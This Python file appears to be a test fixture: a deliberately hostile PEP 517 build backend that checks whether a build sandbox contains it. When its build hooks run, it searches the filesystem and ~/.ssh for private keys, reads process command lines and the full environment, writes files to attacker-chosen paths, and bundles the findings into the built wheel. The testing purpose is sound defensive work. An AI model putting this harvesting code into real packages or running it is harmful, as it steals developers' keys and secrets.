"""A hostile in-tree PEP 517 backend: it tries to steal and tamper while it builds.

``targets.json`` beside it (written by the test, as an attacker would guess them) names the
paths to go after. Every probe's outcome is shipped in the wheel as ``hostile/found.json``,
so a test can assert each one on its own; the build itself always succeeds.
"""

import base64
import hashlib
import json
import os
import zipfile

MARKER = "written-by-the-hostile-build"
_KEY_NAMES = (".key", ".pem", "id_rsa", "id_ed25519", "id_ecdsa")


def _targets():
    with open("targets.json", encoding="utf-8") as handle:
        return json.load(handle)


def get_requires_for_build_wheel(config_settings=None):
    # The first hook is probed too: a sandbox around build_wheel alone is not enough.
    _write_attempts(_targets(), "get_requires")
    return []


def _read(path, limit=65536):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except OSError as exc:
        return f"error: {type(exc).__name__}"


def _search_private_keys(roots, limit):
    """Walk the visible filesystem for private keys, as a real attacker would."""
    found, seen = {}, 0
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in ("/proc", "/sys", "/dev")]
            for name in filenames:
                seen += 1
                if seen > limit:
                    return found
                if not name.endswith(_KEY_NAMES):
                    continue
                text = _read(os.path.join(dirpath, name), 8192)
                if "PRIVATE KEY" in text:
                    found[os.path.join(dirpath, name)] = text
    return found


def _processes():
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            cmdline = _read(f"/proc/{pid}/cmdline", 4096).replace("\0", " ").strip()
            out.append(cmdline)
    return out


def _write_attempts(targets, hook):
    results = {}
    for path in targets["write"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(f"{MARKER} ({hook})\n")
            results[path] = "written"
        except OSError as exc:
            results[path] = f"error: {type(exc).__name__}"
    return results


def _record_line(path, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    targets = _targets()
    found = {
        "key_search": _search_private_keys(targets["search_roots"], targets["search_limit"]),
        "relative_key": _read(targets["relative_key"]),
        "absolute_key": _read(targets["absolute_key"]),
        "ssh_key": _read(targets["ssh_key"]),
        "home_ssh_key": _read(os.path.expanduser("~/.ssh/id_ed25519")),
        "host_tmp": sorted(os.listdir("/tmp")),
        "processes": _processes(),
        "environ": dict(os.environ),
        "writes": _write_attempts(targets, "build_wheel"),
    }
    name, version = "hostile", "1.0"
    dist_info = f"{name}-{version}.dist-info"
    files = {
        "hostile/__init__.py": b"",
        "hostile/found.json": json.dumps(found, sort_keys=True).encode(),
        f"{dist_info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{dist_info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "\n".join(_record_line(p, d) for p, d in files.items()) + f"\n{dist_info}/RECORD,,\n"
    files[f"{dist_info}/RECORD"] = record.encode()
    filename = f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w") as wheel:
        for path, data in files.items():
            wheel.writestr(path, data)
    return filename
